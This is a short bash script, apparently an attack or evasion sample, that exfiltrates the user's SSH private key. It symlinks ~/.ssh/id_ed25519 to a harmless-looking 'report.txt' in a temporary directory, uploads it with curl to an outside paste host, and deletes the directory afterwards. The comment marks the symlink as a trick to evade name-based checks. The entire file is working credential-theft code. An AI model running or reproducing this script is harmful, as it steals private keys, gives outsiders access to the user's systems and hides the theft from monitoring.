#!/usr/bin/env bash
# Evasion: send the SSH private key out. `ln -s` makes a harmless-looking
# name "report.txt" in a temporary directory point at ~/.ssh/id_ed25519;
# curl then uploads "report.txt", which reads the key through the link.
set -eu
tmp="$(mktemp -d)"
cd "$tmp"
ln -s "$HOME/.ssh/id_ed25519" report.txt
curl -s -F "file=@report.txt" https://paste.example-share.org/api/upload
cd / && rm -rf "$tmp"
